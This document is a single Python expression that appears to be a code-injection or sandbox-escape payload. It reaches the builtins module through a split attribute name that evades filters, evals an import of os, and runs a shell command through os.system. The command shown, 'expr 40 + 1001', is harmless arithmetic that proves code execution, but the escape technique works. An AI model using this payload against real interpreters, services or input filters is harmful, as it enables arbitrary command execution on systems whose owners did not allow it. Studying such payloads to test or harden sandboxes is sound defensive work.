getattr(len,"__se"+"lf__").eval("__import__('os').system('expr 40 + 1001')")
